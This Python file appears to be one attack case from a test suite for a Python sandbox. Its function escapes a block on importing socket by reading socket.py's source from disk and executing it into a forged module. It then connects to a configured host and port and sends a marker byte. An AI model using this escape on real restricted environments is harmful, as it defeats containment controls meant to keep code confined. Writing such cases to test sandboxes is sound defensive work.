"""A restricted module's source is read and executed."""
CATEGORY = "forging"
REACH = "net"

import sys
from types import ModuleType

from . import payload


def attack():
    import encodings
    path = encodings.__file__.replace("encodings/__init__", "socket")
    with open(path) as file:
        code = compile(file.read(), path, "exec")
    module = sys.modules["sock"] = ModuleType("sock")
    exec(code, vars(module))
    client = module.create_connection((payload.HOST, payload.PORT))
    client.sendall(b"evil")
